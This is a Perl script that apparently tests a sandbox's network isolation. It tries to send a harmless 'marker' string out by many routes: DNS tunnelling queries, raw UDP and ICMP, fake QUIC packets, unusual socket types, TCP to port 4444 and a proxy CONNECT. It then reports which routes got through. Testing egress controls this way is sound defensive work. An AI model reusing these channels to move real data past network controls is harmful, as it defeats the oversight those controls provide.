# exfil.pl - what a program may try in order to get data out, in Perl's base alone; what it prints says what worked.
#   exfil.pl get NAME...		asks for http://NAME/, prints each line of the answer behind NAME and how often it was asked
#   exfil.pl send NS OTHER NAME	sends "marker" by every other way: NS is a name server, OTHER a stranger, NAME is allowed
use strict;
use Socket;

sub with_alarm { my ($s, $act) = @_; local $SIG{ALRM} = sub { die "late\n" }; my $r = eval { alarm $s; my $x = $act->(); alarm 0; $x }; alarm 0; return $r }

sub tcp { # a socket that is connected, or nothing
	my ($addr, $port) = @_;
	socket(my $s, PF_INET, SOCK_STREAM, 0) or return;
	return with_alarm(5, sub { connect($s, pack_sockaddr_in($port, $addr)) }) ? $s : undef;
}

sub get {
	my ($name, $n) = @_;
	my $addr = inet_aton($name) or return print "$name $n no name\n";
	my $s = tcp($addr, 80) or return print "$name $n no connection\n";
	syswrite $s, "GET / HTTP/1.1\r\nHost: $name\r\nConnection: close\r\n\r\n";
	my $all = "";
	with_alarm(20, sub { while (sysread $s, my $part, 4096) { $all .= $part } });
	print "$name $n rule $1\n" if $all =~ /"rule":"([^"]*)/;
	print "$name $n $_\n" for grep { !/^\{/ } split /\r?\n/, $all;
}

sub udp {
	my ($to, $port, $data) = @_;
	socket(my $s, PF_INET, SOCK_DGRAM, 17) or return "";
	connect $s, pack_sockaddr_in($port, $to);
	send $s, $data, 0;
	my $answer = "";
	with_alarm(2, sub { recv $s, $answer, 512, 0 });
	return $answer;
}

sub question {
	my $q = pack("n6", 7, 256, 1, 0, 0, 0);
	$q .= pack("C/a*", $_) for split /\./, shift;
	return $q . pack("x n2", 16, 1);
}

sub data_out {
	my ($ns, $other, $name) = @_;
	my $mark = "marker" x 8;
	for my $to ($ns, inet_aton("8.8.8.8")) {
		printf "question %d\n", unpack("x2 n", udp($to, 53, question("$mark.$_")) . "\0\0\xff\xff") & 15 for "tunnel.example", $name;
	}
	udp($ns, 53, "marker");
	udp($ns, 9999, $mark);
	udp($other, 9998, $mark);
	my $quic = pack("C N C a8 C", 0xc3, 1, 8, "markerma", 0) . "marker" x 200;
	udp($_, 443, $quic) for $ns, $other, inet_aton($name);
	if (socket my $s, PF_INET, SOCK_DGRAM, 1) { print "icmp\n"; send $s, pack("C2 n3", 8, 0, 0, 1, 1) . $mark, 0, pack_sockaddr_in(0, $_) for $ns, $other }
	for my $p (1, 17, 58, 255) { if (socket my $s, PF_INET, SOCK_RAW, $p) { print "raw\n"; send $s, $mark, 0, pack_sockaddr_in(0, $other) } }
	for my $p (33, 132, 136) { print "protocol $p\n" if socket my $s, PF_INET, $p == 132 ? SOCK_STREAM : $p == 33 ? 6 : SOCK_DGRAM, $p }
	print "vsock\n" if socket my $v, 40, SOCK_STREAM, 0;
	print "packet\n" if socket my $k, 17, 3, 768;
	socket my $a, PF_UNIX, SOCK_STREAM, 0;
	print "abstract\n" if connect $a, pack("S a*", 1, "\0agentrt-exfil");
	for my $port (25, 443, 4444) { my $s = tcp($other, $port); syswrite $s, $mark if $s }
	my $s = tcp(inet_aton("127.0.0.1"), 3128) or return;
	syswrite $s, "CONNECT $mark.example:443 HTTP/1.1\r\n\r\n";
	sysread $s, my $head, 12;
	print "proxy $head\n";
}

my $what = shift;
my %times;
if ($what eq "get") { get($_, ++$times{$_}) for @ARGV }
if ($what eq "send") { data_out(inet_aton($ARGV[0]), inet_aton($ARGV[1]), $ARGV[2]) }
print "end\n";
